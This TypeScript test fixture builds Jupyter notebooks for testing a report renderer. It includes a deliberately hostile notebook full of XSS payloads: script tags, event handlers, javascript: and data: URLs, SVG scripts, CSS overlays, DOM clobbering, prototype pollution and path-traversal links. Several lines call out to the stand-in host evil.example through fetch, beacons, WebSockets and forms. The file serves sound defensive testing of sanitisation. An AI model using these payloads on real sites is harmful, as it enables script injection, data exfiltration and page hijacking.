/** @file Notebooks for the tests of the report: small ones, the showcase, and one that attacks its reader. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Cell, Notebook, Output, OutputData } from "../../../src/notebook/format/types";
import type { ReportEntry } from "../../../src/notebook/report/report-entry";

export const FIXTURES: string = join(__dirname, "..", "..", "fixtures", "report");

export function notebookOf(...cells: Cell[]): Notebook {
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "tslab", display_name: "TypeScript", language: "typescript" } },
    cells,
  };
}

export function prose(source: string, attachments?: Record<string, Record<string, string>>): Cell {
  return { cell_type: "markdown", metadata: {}, source, ...(attachments === undefined ? {} : { attachments }) };
}

export function code(source: string, outputs: Output[] = [], metadata: Record<string, unknown> = {}): Cell {
  return { cell_type: "code", metadata, source, outputs, execution_count: 1 };
}

export function display(data: OutputData, metadata: Record<string, unknown> = {}): Output {
  return { output_type: "display_data", data, metadata };
}

export function printed(text: string, name: "stdout" | "stderr" = "stdout"): Output {
  return { output_type: "stream", name, text };
}

export function entryOf(name: string, notebook: Notebook, more: Partial<ReportEntry> = {}): ReportEntry {
  return { name, path: join(FIXTURES, `${name}.ipynb`), notebook, status: "ok", seconds: 1.5, ...more };
}

/** A lesson with everything that a report shows; made by fixtures/report/make-showcase.mjs. */
export function showcase(): Notebook {
  return JSON.parse(readFileSync(join(FIXTURES, "showcase.ipynb"), "utf8"));
}

/** Set by an attack that worked. */
export const PWNED = "pwned";
const ATTACK = `window.${PWNED}=1;try{parent.${PWNED}=1;top.${PWNED}=1;parent.document.title='${PWNED}'}catch(e){}`;

/** A notebook whose every cell tries to run a script in the page, to cover it, to leave it, or to call home. */
export function hostileNotebook(): Notebook {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30" onload="${ATTACK}"><script>${ATTACK}</script><image href="http://evil.example/in-svg.png"/><text y="20">picture</text></svg>`;
  return notebookOf(
    prose(`# Hostile <script>${ATTACK}</script>

<img src=x onerror="${ATTACK}"> <svg onload="${ATTACK}"></svg> <iframe src="javascript:${ATTACK}"></iframe>
<iframe srcdoc="<script>${ATTACK}</script>"></iframe> <object data="http://evil.example/o"></object>

[link](javascript:${PWNED}=1) <a href="javascript:${ATTACK}">raw</a> <a href=" java&#10;script:${ATTACK}">split</a>
<a href="data:text/html,<script>${ATTACK}</script>">data</a> [file](file:///etc/passwd) [unc](//evil.example/share/x)

![remote](http://evil.example/md.png) ![data](data:text/html;base64,PHNjcmlwdD4=) ![up](../../../../../../etc/hostname)

<b onclick="${ATTACK}" onmouseover="${ATTACK}">bold</b> <img src="data:image/png;base64,AAAA" onerror="${ATTACK}">

<div style="position:fixed;inset:0;background:red;z-index:9999">overlay</div>
<style>body{display:none}</style><link rel="stylesheet" href="http://evil.example/a.css">
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh"><base href="http://evil.example/">
<form action="http://evil.example/f"><input name="q"><button>go</button></form>

$\\href{javascript:${PWNED}=1}{x}$ $\\includegraphics{http://evil.example/tex.png}$ $\\htmlStyle{position:fixed}{y}$
$$\\def\\a{\\a\\a}\\a$$`),
    prose(
      `<a id="_main" name="_cell-3">clobber</a> <img name="getElementById"> <form id="body"></form> ![bad](attachment:bad.html) ![svg](attachment:a.svg)`,
      {
        "bad.html": { "text/html": `<script>${ATTACK}</script>` },
        "a.svg": { "image/svg+xml": svg },
      },
    ),
    code(`"</code></pre><script>${ATTACK}</script>"`, [
      printed(
        `</pre><script>${ATTACK}</script>\u001b]8;;javascript:${ATTACK}\u0007click\u001b]8;;\u0007\u001b[31"onclick=x m\n`,
      ),
      printed("\u001b[31m\u001b[1m\u001b[4m".repeat(20_000)),
      display({
        "text/html": `<script>${ATTACK}</script><p>framed words</p><img src="http://evil.example/html.png" onerror="${ATTACK}">`,
      }),
      display({ "text/html": `<p onclick="${ATTACK}">handler</p>` }),
      display({
        "text/html": `<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div><script>
          fetch("http://evil.example/fetch").catch(()=>{});
          new Image().src = "http://evil.example/image.png";
          navigator.sendBeacon && navigator.sendBeacon("http://evil.example/beacon", "x");
          try { new WebSocket("ws://evil.example/ws") } catch (e) {}
          try { open("http://evil.example/popup") } catch (e) {}
          try { top.location = "http://evil.example/top" } catch (e) {}
          try { localStorage.x = 1 } catch (e) {}
          const css = document.createElement("link"); css.rel = "stylesheet"; css.href = "http://evil.example/late.css"; document.head.append(css);
          const inner = document.createElement("iframe"); inner.src = "http://evil.example/inner"; document.body.append(inner);
          parent.postMessage({ type: "height", height: 1e9 }, "*");
          parent.postMessage({ type: "failed", reason: "<img src=x onerror=${PWNED}=1>" }, "*");
        </script>`,
      }),
      display({
        "text/html": `<script>setTimeout(() => { location.href = "http://evil.example/self" }, 100)</script><p>leaves</p>`,
      }),
      display({ "image/svg+xml": svg, "text/plain": `"><script>${ATTACK}</script>` }),
      display({ "image/png": `x" onerror="${ATTACK}`, "text/plain": "not a picture" }),
      display({ "application/javascript": ATTACK, "text/plain": "a script" }),
      display({ "text/markdown": `<img src=x onerror="${ATTACK}"> [x](javascript:${PWNED}=1)` }),
      display({ "text/latex": `$\\href{javascript:${PWNED}=1}{x}$` }),
      display({ "application/json": { "</script><script>": `</script><script>${ATTACK}</script>` } }),
      display({
        "application/vnd.plotly.v1+json": {
          data: [
            {
              type: "scatter",
              mode: "markers+text",
              x: [1, 2, 3],
              y: [1, 3, 2],
              text: [
                `<img src=x onerror=${PWNED}=1>`,
                `</script><script>${ATTACK}</script>`,
                `<a href="javascript:${ATTACK}">link</a>`,
              ],
              hovertemplate: `<a href="javascript:${ATTACK}">%{x}</a><script>${ATTACK}</script><extra></extra>`,
            },
          ],
          layout: {
            title: {
              text: `</script><script>${ATTACK}</script><a href="javascript:${ATTACK}" style="position:fixed">title</a>`,
            },
            width: 1e9,
            height: 1e9,
            images: [
              {
                source: "http://evil.example/layout.png",
                xref: "paper",
                yref: "paper",
                x: 0,
                y: 1,
                sizex: 1,
                sizey: 1,
              },
            ],
            annotations: [{ x: 2, y: 2, text: `<a href="http://evil.example/note">note</a>` }],
            ["__proto__"]: { polluted: 1 },
          },
          config: {
            plotlyServerURL: "http://evil.example",
            showSendToCloud: true,
            topojsonURL: "http://evil.example/",
          },
        },
      }),
      {
        output_type: "error",
        ename: `<script>${ATTACK}</script>`,
        evalue: "",
        traceback: [`<img src=x onerror="${ATTACK}">`],
      },
    ]),
  );
}
